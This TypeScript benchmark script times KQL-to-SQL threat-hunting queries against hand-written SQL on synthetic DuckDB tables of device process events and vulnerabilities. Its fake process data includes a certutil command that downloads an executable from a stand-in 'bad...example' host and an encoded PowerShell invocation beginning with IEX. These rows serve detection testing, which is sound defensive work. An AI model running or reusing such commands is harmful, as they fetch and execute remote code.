/**
 * Speed of compiled queries as ratios to the best SQL that we could write by hand for the same answer, in one run on the
 * same tables; and the time of compiling.
 * Usage: npx tsx bench/kql-speed.ts [--rows 20000000] [--repeat 3]
 */
import { DuckDBInstance } from '@duckdb/node-api';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { huntingCatalog } from '../src/app/index.ts';
import { compile, createGlobals, nativeFunctions, prelude, ticksFromEpochMs } from '../src/kql/index.ts';
import { duckTypes } from '../src/kql/dialects/duckdb/literal.ts';
import { registerNativeFunctions } from '../src/store/duckdb/native-functions.ts';
import { stockQueries } from './kql/stock-queries.ts';

const { values } = parseArgs({
  options: { rows: { type: 'string', default: '20000000' }, repeat: { type: 'string', default: '3' } },
});
const rows = Number(values.rows);
const repeat = Number(values.repeat);
const now = ticksFromEpochMs(Date.UTC(2026, 7, 22));

const folder = mkdtempSync(join(tmpdir(), 'fixfirst-speed-'));
try {
  const instance = await DuckDBInstance.create(join(folder, 'facts.duckdb'), {
    threads: '2',
    memory_limit: '6GB',
  });
  const connection = await instance.connect();
  registerNativeFunctions(connection, nativeFunctions());
  for (const macro of prelude) await connection.run(macro);
  await connection.run(`CREATE TABLE "DeviceProcessEvents" AS SELECT
    ${now}::BIGINT - (hash(i) % 2592000)::BIGINT * 10000000 AS "Timestamp",
    'device' || (hash(i + 1) % 20000) AS "DeviceId",
    'pc' || (hash(i + 1) % 20000) || '.corp.example' AS "DeviceName",
    ['ProcessCreated', 'OpenProcessApiCall', 'CreateRemoteThreadApiCall'][1 + (hash(i + 2) % 3)::INTEGER] AS "ActionType",
    ['powershell.exe', 'cmd.exe', 'svchost.exe', 'chrome.exe', 'rundll32.exe', 'WINWORD.EXE', 'explorer.exe', 'certutil.exe', 'msedge.exe', 'teams.exe'][1 + (hash(i + 3) % 10)::INTEGER] AS "FileName",
    CASE WHEN hash(i + 4) % 100 = 0 THEN 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA' || i WHEN hash(i + 4) % 100 < 5 THEN 'certutil -urlcache -f http://bad' || (i % 97) || '.example/x.exe' ELSE 'C:\\Program Files\\App' || (hash(i + 5) % 500) || '\\run.exe --task ' || (i % 1000) || ' --quiet' END AS "ProcessCommandLine",
    'user' || (hash(i + 6) % 5000) AS "AccountName",
    CASE WHEN hash(i + 7) % 10 = 0 THEN NULL ELSE (hash(i + 7) % 60000)::BIGINT END AS "ProcessId",
    sha1((hash(i + 8) % 3000)::VARCHAR) AS "SHA1",
    i AS "ReportId"
    FROM range(${rows}) t(i)`);
  await connection.run(`CREATE TABLE "DeviceTvmSoftwareVulnerabilities" AS SELECT
    'device' || (i // 1000) % 20000 AS "DeviceId",
    'pc' || (i // 1000) % 20000 || '.corp.example' AS "DeviceName",
    ['Windows11', 'Windows10', 'Linux', 'macOS'][1 + (hash(i // 1000) % 4)::INTEGER] AS "OSPlatform",
    ['microsoft', 'google', 'adobe', 'apache'][1 + (hash(i + 1) % 4)::INTEGER] AS "SoftwareVendor",
    'product' || (hash(i + 2) % 300) AS "SoftwareName",
    (hash(i + 3) % 20) || '.' || (hash(i + 4) % 10) || '.' || (hash(i + 5) % 1000) AS "SoftwareVersion",
    'CVE-' || (2015 + hash(i + 6) % 10) || '-' || (1000 + hash(i + 6) % 30000) AS "CveId",
    ['Low', 'Medium', 'High', 'Critical'][1 + (hash(i + 7) % 4)::INTEGER] AS "VulnerabilitySeverityLevel"
    FROM range(${rows}) t(i)`);
  const catalog = huntingCatalog();
  for (const name of ['DeviceProcessEvents', 'DeviceTvmSoftwareVulnerabilities']) await completeTable(name);
  const globals = createGlobals(catalog);
  const ratios: number[] = [];
  console.log('| query | compiled | by hand | ratio |\n| --- | --- | --- | --- |');
  for (const { name, kql, sql } of stockQueries(now)) {
    const compiled = compile(kql, globals, { now });
    if (!compiled.ok) throw new Error(`${name}: ${compiled.fault.message}`);
    const times = { ours: Infinity, hand: Infinity };
    let counts: readonly [number, number] = [0, 0];
    for (let run = 0; run < repeat; run++) {
      const ours = await timed(compiled.query.sql);
      const hand = await timed(sql);
      times.ours = Math.min(times.ours, ours.ms);
      times.hand = Math.min(times.hand, hand.ms);
      counts = [ours.rows, hand.rows];
    }
    if (counts[0] !== counts[1]) throw new Error(`${name}: ${counts[0]} rows, by hand ${counts[1]}`);
    ratios.push(times.ours / times.hand);
    console.log(
      `| ${name} | ${times.ours.toFixed(0)} ms | ${times.hand.toFixed(0)} ms | ${(times.ours / times.hand).toFixed(2)} |`,
    );
  }
  ratios.sort((a, b) => a - b);
  console.log(
    `\n${rows} rows a table: median ratio ${quantile(ratios, 0.5).toFixed(2)}, worst ${quantile(ratios, 1).toFixed(2)}`,
  );

  /** Gives a table its other columns, empty. */
  async function completeTable(name: string): Promise<void> {
    const described = await connection.runAndReadAll(
      `SELECT column_name FROM duckdb_columns() WHERE table_name = '${name}'`,
    );
    const present = new Set(described.getRows().map(([column]) => column));
    for (const column of catalog.tables.find((table) => table.name === name)!.columns)
      if (column.aliasOf === undefined && !present.has(column.name))
        await connection.run(
          `ALTER TABLE "${name}" ADD COLUMN "${column.name}" ${duckTypes[column.type]}${column.type === 'string' ? " DEFAULT ''" : ''}`,
        );
  }

  async function timed(sql: string): Promise<{ ms: number; rows: number }> {
    const started = performance.now();
    const reader = await connection.runAndReadAll(sql);
    return { ms: performance.now() - started, rows: reader.currentRowCount };
  }

  const index = new URL('../../shared/kql/INDEX.json', import.meta.url);
  if (existsSync(index)) {
    const texts = readFileSync(index, 'utf8')
      .split('\n')
      .filter((line) => line.includes('"category": "ah"') || line.includes('"category":"ah"'))
      .map((line) => /"file": ?"([^"]+)"/.exec(line)?.[1])
      .filter((file) => file !== undefined)
      .map((file) => readFileSync(new URL(`queries/${file}`, index), 'utf8'));
    for (const text of texts.slice(0, 200)) compile(text, globals, { now });
    const times: number[] = [];
    for (const text of texts) {
      const started = performance.now();
      compile(text, globals, { now });
      times.push(performance.now() - started);
    }
    times.sort((a, b) => a - b);
    console.log(
      `compiling ${times.length} hunting queries, warm: p50 ${quantile(times, 0.5).toFixed(1)} ms, p99 ${quantile(times, 0.99).toFixed(1)} ms`,
    );
  }
} finally {
  rmSync(folder, { recursive: true, force: true });
}
process.exit(0);

function quantile(sorted: readonly number[], q: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))] ?? 0;
}
